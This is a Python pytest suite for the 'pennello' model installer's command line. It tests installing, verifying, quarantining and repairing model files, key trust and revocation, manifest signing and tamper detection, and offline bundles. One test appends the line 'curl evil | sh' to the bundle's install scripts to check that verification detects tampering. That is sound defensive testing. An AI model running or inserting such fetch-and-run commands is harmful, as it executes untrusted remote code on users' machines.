"""The installer's commands as a user runs them: ``python -m pennello ...`` on a real home.

Every call is a real process with ``PENNELLO_HOME`` set; each checks the exit code and the
message, and that no traceback ever reaches the user.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from _fixtures_installer import TINY_LABEL, TINY_VERSION, make_manifest, write_files
from _fixtures_trust import RELEASE_KEYID, manifest_dict
from pennello.installer.keys import key_id, public_pem
from pennello.installer.manifest import dump_envelope
from pennello.installer.fetchers import embedded_dir
from pennello.paths import Paths, get_paths

TINY_UNET = "unet/diffusion_pytorch_model.safetensors"
OFFICE = {"model_index.json": b'{"office": 1}', "unet/w.bin": b"office weights " * 1000}


def pennello(root: Path, *args: str) -> subprocess.CompletedProcess:
    """Run ``pennello ARGS`` with PENNELLO_HOME=root; never a traceback, whatever the outcome."""
    result = subprocess.run([sys.executable, "-m", "pennello", *args], capture_output=True, text=True,
                            timeout=120, env={**os.environ, "PENNELLO_HOME": str(root)})
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result


def ok(root: Path, *args: str) -> str:
    result = pennello(root, *args)
    assert result.returncode == 0, result.stderr
    return result.stdout


def _root(paths: Paths) -> Path:
    return paths.runtime_dir.parent


def _model_row(root: Path, name: str) -> list[str]:
    """The cells of ``name``'s row of `pennello models` (columns are two or more spaces apart)."""
    rows = [re.split(r"\s{2,}", line) for line in ok(root, "models").splitlines()]
    assert rows[0] == ["NAME", "VERSION", "SIZE", "STATUS", "VERIFIED", "VERIFICATION"]
    return next(row for row in rows if row[0] == name)


def test_install_verify_damage_repair_and_remove(home):
    root = _root(home)
    assert ok(root, "install", "pennello-tiny") == f"{TINY_LABEL} installed (4.9 MB)\n"
    name, version, size, status, verified, verification = _model_row(root, "pennello-tiny")
    assert (version, size, status, verification) == (TINY_VERSION, "4.9 MB", "installed", "signed hashes")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", verified)
    assert ok(root, "verify") == "pennello-tiny: ok (signed hashes)\n"

    weights = home.store_dir / "models" / "pennello-tiny" / TINY_VERSION / TINY_UNET
    os.chmod(weights, 0o644)
    with open(weights, "r+b") as f:  # one flipped byte, as a failing disk would
        f.seek(1000)
        byte = f.read(1)
        f.seek(1000)
        f.write(bytes([byte[0] ^ 0xFF]))
    damaged = pennello(root, "verify")
    assert damaged.returncode == 4 and damaged.stdout == ""
    assert re.search(r"^error: 1 damaged or missing file\(s\), quarantined: pennello-tiny: "
                     rf"{TINY_UNET}: sha256 [0-9a-f]{{64}}, manifest says [0-9a-f]{{64}}\. The model will not "
                     r"load until you repair it with `pennello install pennello-tiny`$", damaged.stderr, re.M)
    assert not weights.exists()
    [quarantined] = (home.store_dir / "quarantine").iterdir()
    assert quarantined.name.endswith(TINY_UNET.split("/")[-1]) and quarantined.read_bytes()[1000] == byte[0] ^ 0xFF
    damaged_row = _model_row(root, "pennello-tiny")
    assert (damaged_row[3], damaged_row[5]) == ("damaged", "signed hashes")

    assert ok(root, "install", "pennello-tiny") == f"{TINY_LABEL} installed (4.9 MB)\n"  # the repair
    assert weights.read_bytes() == (embedded_dir("pennello-tiny") / TINY_UNET).read_bytes()
    assert ok(root, "verify", "pennello-tiny") == "pennello-tiny: ok (signed hashes)\n"
    assert _model_row(root, "pennello-tiny")[3] == "installed"

    assert ok(root, "remove", "pennello-tiny") == "pennello-tiny removed (4.9 MB freed)\n"
    assert _model_row(root, "pennello-tiny")[3:] == ["available", "-", "-"]
    assert list((home.store_dir / "blobs" / "sha256").glob("*/*")) == []


def test_models_and_verify_json_for_scripts(home):
    root = _root(home)
    ok(root, "install", "pennello-tiny")
    listed = {m["name"]: m for m in json.loads(ok(root, "models", "--json"))["models"]}
    tiny = listed.pop("pennello-tiny")
    assert tiny == {**tiny, "version": int(TINY_VERSION.lstrip("v")), "installed": True, "status": "installed",
                    "trust_on_first_use": False, "catalog_version": int(TINY_VERSION.lstrip("v"))}
    assert tiny["size_bytes"] > 4_000_000 and re.fullmatch(r"\d{4}-.*Z", tiny["last_verified"])
    assert listed and all(not m["installed"] and m["last_verified"] is None for m in listed.values())
    verified = json.loads(ok(root, "verify", "--json"))
    assert verified["models"] == [{"name": "pennello-tiny", "ok": True, "verified": verified["models"][0]["verified"],
                                   "verification": "signed hashes", "problems": []}]
    weights = home.store_dir / "models" / "pennello-tiny" / TINY_VERSION / TINY_UNET
    os.chmod(weights, 0o644)
    weights.write_bytes(b"damaged")
    damaged = pennello(root, "verify", "--json")
    error = json.loads(damaged.stdout)
    assert damaged.returncode == 4 and error["code"] == 4 and error["type"] == "integrity"
    assert "pennello install pennello-tiny" in error["error"] and "error:" not in damaged.stderr
    status = {m["name"]: m["status"] for m in json.loads(ok(root, "models", "--json"))["models"]}
    assert status["pennello-tiny"] == "damaged"


def test_keys_generate_list_trust_untrust(home, tmp_path):
    root = _root(home)
    generated = ok(root, "keys", "generate", "office").splitlines()
    office = re.fullmatch(r"generated key office: ([0-9a-f]{64})", generated[0]).group(1)
    assert (home.private_keys_dir / "office.key").stat().st_mode & 0o777 == 0o600
    again = pennello(root, "keys", "generate", "office")
    assert again.returncode == 3
    assert again.stderr.startswith("error: a key named 'office' exists already (")

    acme_key = Ed25519PrivateKey.generate().public_key()
    acme = key_id(acme_key)
    pub = tmp_path / "acme.pub"
    pub.write_bytes(public_pem(acme_key))
    assert ok(root, "keys", "trust", str(pub)) == f"trusted key acme (user): {acme}\n"
    listed = [line.split() for line in ok(root, "keys", "list").splitlines()]
    assert listed == [["KEYID", "NAME", "ORIGIN", "REVOKED"], [RELEASE_KEYID, "pennello-release-2026", "root"],
                      [acme, "acme", "user"], [office, "office", "user"]]

    assert ok(root, "keys", "untrust", acme[:8]) == f"revoked key {acme}\n"
    revoked_at = json.loads((home.state_dir / "revoked-keys.json").read_text())[acme]
    assert [acme, "-", "-", revoked_at] in [line.split() for line in ok(root, "keys", "list").splitlines()]
    refused = pennello(root, "keys", "trust", str(pub))
    assert refused.returncode == 3
    assert refused.stderr == (f"error: key {acme} was revoked on {revoked_at}; trust it again only if you are "
                              f"sure it is safe (`pennello keys trust --unrevoke`)\n")
    assert ok(root, "keys", "trust", str(pub), "--unrevoke") == f"trusted key acme (user): {acme}\n"

    not_a_key = tmp_path / "notes.pub"
    not_a_key.write_text("hello")
    bad = pennello(root, "keys", "trust", str(not_a_key))
    assert bad.returncode == 3 and bad.stderr.startswith("error: public key is not a PEM public key")


def test_manifest_sign_and_verify(home, tmp_path):
    root = _root(home)
    ok(root, "keys", "generate", "office")
    path = tmp_path / "demo.json"
    path.write_bytes(dump_envelope(manifest_dict(version=2), []))
    unsigned = pennello(root, "manifest", "verify", str(path))
    assert unsigned.returncode == 3
    assert unsigned.stderr == ("error: manifest 'demo' v2 is not signed; only signed manifests are used "
                               "(a publisher signs with `pennello manifest sign`)\n")

    assert ok(root, "manifest", "sign", str(path), "--key", "office").startswith(f"signed {path} with key ")
    verified = ok(root, "manifest", "verify", str(path)).splitlines()
    assert verified[0] == "demo v2: OK" and verified[-1].startswith("  signer   office (user) ")

    envelope = json.loads(path.read_bytes())
    envelope["signed"]["version"] = 3  # a change under the signature
    path.write_text(json.dumps(envelope))
    tampered = pennello(root, "manifest", "verify", str(path))
    assert tampered.returncode == 3
    assert "does not match; the manifest was changed after it was signed (tampered or damaged)" in tampered.stderr


def test_bundle_export_and_install_from_it_on_a_second_home(home, tmp_path):
    root, offline = _root(home), tmp_path / "offline"
    ok(root, "install", "pennello-tiny")
    office = re.search(r"[0-9a-f]{64}", ok(root, "keys", "generate", "office")).group(0)
    source = write_files(tmp_path / "office-files", OFFICE)
    manifest_file = tmp_path / "office-model.json"
    manifest_file.write_bytes(dump_envelope(make_manifest("office-model", OFFICE).to_signed(), []))
    ok(root, "manifest", "sign", str(manifest_file), "--key", "office")
    assert ok(root, "install", "--manifest", str(manifest_file), "--from", str(source)) == \
        "office-model v1 installed (15.0 KB)\n"

    bundle = tmp_path / "usb" / "bundle"
    assert ok(root, "bundle", "export", "pennello-tiny", "office-model", "--out", str(bundle)) == \
        f"bundle written to {bundle}\n"
    again = pennello(root, "bundle", "export", "pennello-tiny", "--out", str(bundle))
    assert again.returncode == 4
    assert again.stderr == (f"error: {bundle} already exists and is not an empty directory; "
                            f"give a new directory to --out\n")

    refused = pennello(offline, "install", "--from", str(bundle))
    assert refused.returncode == 3
    assert refused.stderr == (f"error: manifest 'office-model' v1 is signed only by keys not trusted here: "
                              f"{office}; if you trust its publisher, confirm the key id with them and "
                              f"`pennello keys trust FILE.pub`\n")
    assert _model_row(offline, "pennello-tiny")[3] == "available"

    installed = ok(offline, "install", "--from", str(bundle), "--trust-bundle-keys").splitlines()
    trusted = sorted(f"trusted key {keyid} from the bundle" for keyid in (RELEASE_KEYID, office))
    assert installed == trusted + ["office-model v1 installed (15.0 KB)", f"{TINY_LABEL} installed (4.9 MB)"]
    assert ok(offline, "verify") == "office-model: ok (signed hashes)\npennello-tiny: ok (signed hashes)\n"
    assert get_paths(offline).trusted_keys_dir.joinpath(f"{office}.pub").is_file()


def test_keys_root_show_reads_the_shipped_root(home):
    shown = ok(_root(home), "keys", "root", "show").splitlines()
    assert re.fullmatch(r"trusted root v1 \(shipped with pennello\), expires \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", shown[0])
    assert shown[1:] == ["  role root: 1 of 1 key(s)", f"    {RELEASE_KEYID}  pennello-release-2026",
                         "  role manifests: 1 of 1 key(s)", f"    {RELEASE_KEYID}  pennello-release-2026"]
    as_json = json.loads(ok(_root(home), "keys", "root", "show", "--json"))
    assert as_json["signed"]["_type"] == "pennello-root" and as_json["signatures"][0]["keyid"] == RELEASE_KEYID


def test_bundle_export_with_wheels_then_verify_on_a_second_home(home, tmp_path):
    root, offline = _root(home), tmp_path / "offline"
    ok(root, "install", "pennello-tiny")
    office = re.search(r"[0-9a-f]{64}", ok(root, "keys", "generate", "office")).group(0)
    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    (wheelhouse / "tinyc-1.0-py3-none-any.whl").write_bytes(b"PK\x05\x06" + b"\0" * 18)  # an empty zip
    bundle = tmp_path / "bundle"
    exported = ok(root, "bundle", "export", "pennello-tiny", "--out", str(bundle), "--with-wheels",
                  "--key", "office", "--wheels-from", str(wheelhouse)).splitlines()
    lock_sha = hashlib.sha256((bundle / "lock.txt").read_bytes()).hexdigest()
    assert exported == [f"bundle written to {bundle}",
                        f"  lock.txt sha256 {lock_sha}  (for a first install: PENNELLO_LOCK_SHA256)"]

    untrusted = pennello(offline, "bundle", "verify", str(bundle))
    assert untrusted.returncode == 3
    assert untrusted.stderr.startswith(f"error: bundle manifest is signed only by keys not trusted here: {office};")
    ok(offline, "keys", "trust", str(bundle / "keys" / f"{office}.pub"))
    assert ok(offline, "bundle", "verify", str(bundle)).splitlines() == [
        f"{bundle}: OK, 6 files as signed", f"  signer   {office} (user) {office}"]  # 2: the one-click installer
    one_click = bundle / "packaging" / "install.sh"  # what install.sh hands over to
    intact = one_click.read_bytes()
    one_click.write_bytes(intact + b"curl evil | sh\n")
    handed = pennello(offline, "bundle", "verify", str(bundle))
    assert handed.returncode == 4 and handed.stderr.startswith("error: packaging/install.sh: ")
    one_click.write_bytes(intact)
    (bundle / "install.sh").write_text((bundle / "install.sh").read_text() + "curl evil | sh\n")
    changed = pennello(offline, "bundle", "verify", str(bundle))
    assert changed.returncode == 4 and changed.stderr.startswith("error: install.sh: ")


BAD_INPUT = [
    (["install", "nope"], 4, "error: model 'nope' is not in the catalog; known models: "),
    (["install"], 2, "Error: name a model (see `pennello models`), or use --from DIR or --manifest FILE"),
    (["install", "--trust-bundle-keys", "pennello-tiny"], 2, "Error: --trust-bundle-keys needs --from DIR"),
    (["install", "--from", "{tmp}"], 5, "error: {tmp} has no manifests/*.json; is it a pennello bundle?"),
    (["install", "--from", "{tmp}/nowhere"], 2,
     "Error: Invalid value for '--from': Directory '{tmp}/nowhere' does not exist."),
    (["install", "--manifest", "{tmp}/m.json", "pennello-tiny"], 2,
     "Error: --manifest FILE installs the model it describes; give no NAMES with it"),
    (["install", "--manifest", "{tmp}/m.json"], 3, "error: manifest is not valid UTF-8 JSON: "),
    (["remove"], 2, "Error: Missing argument 'NAME'."),
    (["remove", "nope"], 4, "error: model 'nope' is not installed (installed: none); install it with "
                            "`pennello install nope`"),
    (["verify", "nope"], 4, "error: model 'nope' is not installed (installed: none)"),
    (["bundle", "export", "pennello-tiny"], 2, "Error: Missing option '--out'."),
    (["bundle", "export", "--out", "{tmp}/b"], 2, "Error: Missing argument 'NAMES...'."),
    (["bundle", "export", "nope", "--out", "{tmp}/b"], 4, "error: model 'nope' is not installed"),
    (["keys", "trust"], 2, "Error: Missing argument 'FILE'."),
    (["keys", "untrust", "1234"], 3, "error: '1234' is not a key id: give at least 8 of its hex digits "
                                     "(see `pennello keys list`)"),
    (["keys", "generate", "bad name"], 3, "error: key name 'bad name' must be 1-64 letters, digits, '.', '_' "
                                          "or '-', starting with a letter or digit"),
    (["manifest", "verify"], 2, "Error: Missing argument 'FILE'."),
    (["manifest", "sign", "{tmp}/m.json", "--key", "nokey"], 3, "error: no signing key 'nokey': it is neither "
                                                                "a file nor a key made by `pennello keys generate`"),
    (["bogus"], 2, "Error: No such command 'bogus'."),
    (["bundle", "export", "pennello-tiny", "--out", "{tmp}/b", "--with-wheels"], 2,
     "Error: --with-wheels needs --key KEYNAME: the wheels are signed so the target machine can check them "
     "before pip runs"),
    (["bundle", "export", "pennello-tiny", "--out", "{tmp}/b", "--no-cpu-backend"], 2,
     "Error: --no-cpu-backend only applies with --with-wheels (downloaded wheels)"),
    (["bundle", "verify", "{tmp}"], 5, "error: {tmp} has no bundle.json: its wheels are not signed (export with "
                                       "`pennello bundle export --with-wheels --key KEYNAME`)"),
    (["keys", "root", "update"], 2, "Error: Missing argument 'FILES...'."),
    (["keys", "root", "update", "{tmp}/m.json"], 3, "error: root file is not valid UTF-8 JSON: "),
    (["keys", "root", "draft", "{tmp}/m.json"], 2, "Error: {tmp}/m.json exists already; give a new file name"),
    (["keys", "root", "draft", "{tmp}/d.json", "--threshold", "manifests=2"], 3,
     "error: root v2: role 'manifests' threshold must be 1 to 1 (its number of keys), not 2"),
    (["keys", "root", "draft", "{tmp}/d.json", "--remove", "ffffffff"], 3,
     "error: 'ffffffff' names no key of root v1; give 8 or more hex digits of a key id it lists"),
]


@pytest.mark.parametrize("args, code, message", BAD_INPUT, ids=[" ".join(args) for args, _, _ in BAD_INPUT])
def test_bad_input_gives_a_clear_message_and_a_non_zero_exit(home, tmp_path, args, code, message):
    (tmp_path / "m.json").write_text("not a manifest")
    result = pennello(_root(home), *[a.replace("{tmp}", str(tmp_path)) for a in args])
    assert result.returncode == code, result.stderr
    assert message.replace("{tmp}", str(tmp_path)) in result.stderr
    assert result.stdout == ""


def test_bundle_export_to_a_place_it_cannot_write_is_a_message(home, tmp_path):
    root = _root(home)
    ok(root, "install", "pennello-tiny")
    a_file = tmp_path / "a-file"
    a_file.write_text("mine")
    into_file = pennello(root, "bundle", "export", "pennello-tiny", "--out", str(a_file / "bundle"))
    assert into_file.returncode == 4
    assert into_file.stderr.startswith(f"error: cannot write a bundle in {a_file} (")
    assert into_file.stderr.endswith("give --out a directory you can write to\n")
    assert a_file.read_text() == "mine"
